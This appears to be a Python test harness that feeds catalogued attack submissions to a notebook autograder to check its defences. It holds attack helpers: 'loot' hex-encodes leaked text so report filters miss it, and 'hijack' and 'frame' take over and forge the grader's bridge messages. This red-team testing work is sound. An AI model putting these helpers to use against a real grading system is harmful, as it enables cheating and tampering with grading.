"""Reads the attacks, one file each, and makes a submission of each.

A file in attacks/ is a Python module:

    docstring       one sentence: what success would be
    CATEGORY        one of CATEGORIES
    LONG            only the long run has time for it; see `load_attacks`
    CELLS           {grade_id of an answer cell: what the attacker writes there}
    NOTEBOOK        which notebook is handed in; "numbers" where it says nothing
    EXTRA           (position, source) of cells that the attacker adds; -1 is the end
    FILES           {path in the submission's folder: text}
    tamper(notebook)   changes the notebook as it is about to be handed in; what it returns, if
                       anything, is handed in instead, as text or bytes
    folder(path, course)   changes the submission's folder last
    GUARD           edits of the grader, (file, text there, text instead), without which it would
                    succeed: what stops it, and where

In sources these words are filled in: @COURSE@ (the course's folder), @HOME@ (the grading user's
home), @PORT@ and @SOCKET@ (where the test listens), @NAME@ (the attack), @MARK@ (what a file or
process that is left behind is called). A source that calls `loot`, `hijack`, `frame` or `answer`
gets their definitions in front.
"""

from __future__ import annotations

import importlib
import json
import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell

from grader.tests.attacks.target import ASSIGNMENT

CATEGORIES = (
    "patched libraries",
    "lying objects",
    "IPython hooks",
    "modules and tracing",
    "frames, gc, history",
    "files",
    "forged notebook",
    "exits and signals",
    "wire",
    "resources",
    "persistence",
    "network",
    "notebook bombs",
    "HTML and script",
)

LOOT = '''def loot(text):
    """Says something in a way that no filter of the report knows."""
    print(">" + str(text)[::-1].encode("utf-8", "replace")[:60_000].hex() + "<", flush=True)

'''
LINE = '''EXTRAS = [[], [], None, True, None]  # what goes with every message

def hijack(reply):
    """Takes the place of the bridge: `reply(line, header, buffers)` sees each of its questions."""
    import gc

    known = [found for found in gc.get_objects() if type(found).__name__ == "Agent"]
    agent = next(found for found in known if hasattr(found, "peer"))
    channel = agent._channel
    agent._loop.remove_reader(channel.fileno())
    agent._loop.add_reader(channel.fileno(), lambda: reply(channel._socket, *channel.receive()))

def frame(header, *buffers, size=None, lengths=None):
    """A message of the bridge, or nearly."""
    import json, struct

    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    lengths = [len(buffer) for buffer in buffers] if lengths is None else lengths
    start = struct.pack("!II", len(text) if size is None else size, len(lengths))
    return start + struct.pack(f"!{len(lengths)}Q", *lengths) + text + b"".join(buffers)

def answer(header, node, *buffers):
    """A reply that is well-formed but for its node."""
    return frame(["!", header[1], "ok", node, [], EXTRAS], *buffers)

'''
HELPERS = {"loot(": LOOT, "frame(": LINE, "hijack(": LINE, "answer(": LINE, "EXTRAS": LINE}
"""What is put in front of a source that calls it."""


@dataclass(frozen=True)
class Attack:
    """One file of attacks/."""

    name: str
    success: str
    category: str
    long: bool
    notebook: str
    cells: Mapping[str, str]
    extra: tuple[tuple[int, str], ...]
    files: Mapping[str, str]
    tamper: Callable[[nbformat.NotebookNode], Any] | None
    folder: Callable[[Path, Path], None] | None
    guard: tuple[tuple[str, str, str], ...] = ()


@dataclass(frozen=True)
class Surroundings:
    """What an attacker may know of the machine.

    Attributes:
        course: the course's folder.
        home: of the user who grades.
        port: where something listens on this machine, for TCP and UDP.
        socket: name of an abstract Unix socket that something listens on.
        sign: begins the name of whatever attacks of this run leave behind.
    """

    course: Path
    home: Path
    port: int
    socket: str
    sign: str


def load_attacks(every: bool | None = None) -> list[Attack]:
    """The attacks, in order of name.

    Args:
        every: also those of the long run; None means what the variable GRADER_LONG says.
    """
    folder = Path(__file__).parent / "attacks"
    attacks = [_load(path.stem) for path in sorted(folder.glob("[a-z]*.py"))]
    if every is None:
        every = os.environ.get("GRADER_LONG") == "1"
    return [attack for attack in attacks if every or not attack.long]


def _load(name: str) -> Attack:
    module = importlib.import_module(f"{__package__}.attacks.{name}")
    return Attack(
        name.replace("_", "-"),
        " ".join((module.__doc__ or "").split()),
        module.CATEGORY,
        getattr(module, "LONG", False),
        getattr(module, "NOTEBOOK", "numbers"),
        getattr(module, "CELLS", {}),
        tuple(getattr(module, "EXTRA", ())),
        getattr(module, "FILES", {}),
        getattr(module, "tamper", None),
        getattr(module, "folder", None),
        tuple(getattr(module, "GUARD", ())),
    )


def hand_in(course: Path, attack: Attack, student: str, around: Surroundings) -> None:
    """Write the attack's submission into the course."""
    folder = course / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True)

    def filled(source: str) -> str:
        needed = dict.fromkeys(helper for call, helper in HELPERS.items() if call in source)
        source = "".join(needed) + source
        for word, value in (
            ("@COURSE@", around.course),
            ("@HOME@", around.home),
            ("@PORT@", around.port),
            ("@SOCKET@", around.socket),
            ("@MARK@", f"{around.sign}{attack.name}-"),
            ("@NAME@", attack.name),
        ):
            source = source.replace(word, str(value))
        return source

    notebook = released(course, attack.notebook)
    answer(notebook, {name: filled(source) for name, source in attack.cells.items()})
    for position, source in attack.extra:
        at = position if position >= 0 else len(notebook.cells) + 1 + position
        notebook.cells.insert(at, new_code_cell(filled(source)))
    changed = attack.tamper(notebook) if attack.tamper else None
    if changed is None:
        changed = json.dumps(notebook)  # unchecked
    raw = changed if isinstance(changed, bytes) else changed.encode("utf-8", "surrogatepass")
    (folder / f"{attack.notebook}.ipynb").write_bytes(raw)
    for name, text in attack.files.items():
        (folder / name).write_text(filled(text), encoding="utf-8")
    if attack.folder:
        attack.folder(folder, course)


def released(course: Path, notebook: str) -> nbformat.NotebookNode:
    """What students get."""
    return nbformat.read(course / "release" / ASSIGNMENT / f"{notebook}.ipynb", as_version=4)


def answer(notebook: nbformat.NotebookNode, cells: Mapping[str, str]) -> None:
    """Fill in answer cells."""
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        cell.source = cells.get(grade_id, cell.source)


def hand_in_honestly(
    course: Path, student: str, answers: Mapping[str, Mapping[str, str]], note: str
) -> None:
    """An honest submission, with a note that nobody else should read."""
    folder = course / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True)
    for name, cells in answers.items():
        notebook = released(course, name)
        answer(notebook, cells)
        notebook.cells.append(new_code_cell(f"# {note}"))
        nbformat.write(notebook, folder / f"{name}.ipynb")
